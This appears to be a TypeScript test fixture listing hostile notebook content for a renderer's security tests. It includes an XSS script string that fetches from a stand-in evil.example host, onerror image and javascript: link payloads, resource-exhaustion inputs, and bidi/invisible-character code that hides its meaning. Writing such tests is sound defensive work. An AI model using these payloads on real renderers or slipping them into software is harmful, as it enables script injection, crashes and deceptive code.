import type { Output } from '../../../src/model/output.js';
import { hostileDrawings } from './hostile-drawings.js';
import { hostileMarkdown } from './hostile-markdown.js';
import { cssBombs, hostileMarkup } from './hostile-markup.js';

/** Something that a notebook may hold and nobody wants: what a cell puts out, or what a text or code cell says. */
export type Hostile = { readonly name: string } & (
  | { readonly outputs: readonly Output[] }
  | { readonly markdown: string }
  | { readonly code: string }
);

/** Tries to act: any of it that works is seen by the test. */
export const script = 'window.pwned=true;alert(1);fetch("http://evil.example/x")';
export const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

export const rich = (data: { [type: string]: unknown }, metadata = {}): Output => ({ output_type: 'display_data', data, metadata });
const stream = (text: string, name: 'stdout' | 'stderr' = 'stdout'): Output => ({ output_type: 'stream', name, text });

/** A PNG that says it is of 60,000 by 60,000 pixels. */
function hugePng(): string {
  const bytes = Buffer.from(pixel, 'base64');
  bytes.writeUInt32BE(60_000, 16);
  bytes.writeUInt32BE(60_000, 20);
  return bytes.toString('base64');
}

const ansi = (length: number) => Array.from({ length: length / 12 }, (_, at) => `\u001b[3${at % 8};4${at % 7}mx`).join('');
const deep = (levels: number) => JSON.parse(`${'['.repeat(levels)}${']'.repeat(levels)}`) as unknown;

/** Other outputs: texts, errors, images, values. */
const others: readonly Hostile[] = [
  {
    name: 'a hundred coloured streams',
    outputs: Array.from({ length: 100 }, (_, at) => stream(ansi(10_000), at % 2 ? 'stdout' : 'stderr')),
  },
  { name: 'one long coloured stream', outputs: [stream(ansi(900_000))] },
  { name: 'a line of 900,000 characters', outputs: [stream('x'.repeat(900_000))] },
  { name: '300,000 empty lines', outputs: [stream('\n'.repeat(300_000))] },
  {
    name: 'escape sequences that never end',
    outputs: [stream('\u001b['.repeat(200_000)), stream(`\u001b]${'8;;'.repeat(100_000)}`, 'stderr')],
  },
  { name: 'a sequence of 100,000 codes', outputs: [stream(`\u001b[${'1;'.repeat(100_000)}mx`)] },
  { name: 'a link in a terminal', outputs: [stream('\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007')] },
  { name: 'letters with a thousand marks each', outputs: [stream(`${`a${'\u0301'.repeat(1000)}`.repeat(200)}\n`)] },
  { name: 'bidi marks in a stream', outputs: [stream('\u202e\u2066'.repeat(20_000))] },
  { name: '900 outputs', outputs: Array.from({ length: 900 }, (_, at) => rich({ 'text/html': `<p>${at}</p>` })) },
  { name: '40 tables', outputs: Array.from({ length: 40 }, () => rich({ 'text/html': `<table>${'<tr><td>1<td>2'.repeat(700)}</table>` })) },
  {
    name: 'an error of markup',
    outputs: [
      { output_type: 'error', ename: '<img src=x>', evalue: `<script>${script}</script>`, traceback: [`<img src=x onerror='${script}'>`] },
    ],
  },
  {
    name: 'an error of 900,000 characters',
    outputs: [{ output_type: 'error', ename: 'E', evalue: 'v', traceback: ['\u001b[31mx'.repeat(150_000)] }],
  },
  { name: 'a nest of 200 lists', outputs: [rich({ 'application/json': deep(200) })] },
  { name: 'a script by its type', outputs: [rich({ 'application/javascript': script })] },
  { name: 'a type that nobody knows', outputs: [rich({ 'application/x-evil': '<script>1</script>' })] },
  { name: 'nothing at all', outputs: [rich({})] },
  { name: 'a type named like a method', outputs: [rich({ constructor: 'x', toString: 'y' })] },
  { name: 'a value in lines', outputs: [rich({ 'text/html': ['<p>', '</b>', '<'], 'application/json': { b: [2] } })] },
  { name: 'an image that is none', outputs: [rich({ 'image/png': '"><img src=x onerror=alert(1)>' })] },
  { name: 'an image of 3.6 gigapixels', outputs: [rich({ 'image/png': hugePng() })] },
  { name: 'an image of a wild size', outputs: [rich({ 'image/png': pixel }, { 'image/png': { width: 1e9, height: 1e9 } })] },
  { name: 'a long formula', outputs: [rich({ 'text/latex': '$x'.repeat(300_000) })] },
  { name: 'lone surrogates in a stream', outputs: [stream('\ud800'.repeat(1000))] },
];

/** Sources of code cells. */
const sources: readonly Hostile[] = [
  { name: 'code that hides what it does', code: 'access = "user\u202e \u2066# only admins\u2069 \u2066"\nif a\u200bdmin: pass\u00ad' },
  { name: 'code with tags and fillers', code: `x = "${'\u{e0041}'.repeat(100)}\u3164\uffa0\u2800"` },
  { name: 'a line of code of 900,000 characters', code: `x = "${'a'.repeat(900_000)}"` },
  { name: '100,000 brackets', code: '('.repeat(100_000) },
  { name: '60,000 lines of code', code: 'if x:\n  y\n'.repeat(30_000) },
  { name: '300,000 characters that cannot be seen', code: '\u200b'.repeat(300_000) },
  { name: 'a nest of 2,000 blocks', code: Array.from({ length: 400 }, (_, at) => `${' '.repeat(at)}if x:`).join('\n') },
];

/** All of it, by kind, in the order in which it is tried. */
export function hostileKinds(): { readonly [kind: string]: readonly Hostile[] } {
  const texts = hostileMarkdown(script);
  return {
    HTML: hostileMarkup(script).map(([name, html]) => ({ name: `html: ${name}`, outputs: [rich({ 'text/html': html })] })),
    styles: cssBombs().map(([name, css]) => ({
      name: `style: ${name}`,
      outputs: [rich({ 'text/html': `<style>${css}</style><p id="seen" class="a b">seen</p>` })],
    })),
    SVG: hostileDrawings(script).map(([name, svg]) => ({ name: `svg: ${name}`, outputs: [rich({ 'image/svg+xml': svg })] })),
    'text cells': texts.map(([name, markdown]) => ({ name: `markdown: ${name}`, markdown })),
    'texts put out': texts.map(([name, text]) => ({ name: `markdown output: ${name}`, outputs: [rich({ 'text/markdown': text })] })),
    'other outputs and code': [...others, ...sources],
  };
}

export function hostileContent(): readonly Hostile[] {
  return Object.values(hostileKinds()).flat();
}
